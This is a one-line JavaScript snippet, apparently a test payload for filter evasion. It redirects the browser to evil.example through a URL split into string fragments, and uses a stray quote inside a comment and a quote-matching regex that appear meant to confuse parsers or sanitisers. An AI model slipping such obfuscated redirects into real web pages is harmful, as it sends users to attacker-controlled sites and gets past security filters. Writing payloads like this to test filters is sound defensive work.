/* ' */ var x=/['"]/g; location=['htt','ps:','//evil.exa','mple/'].join('');
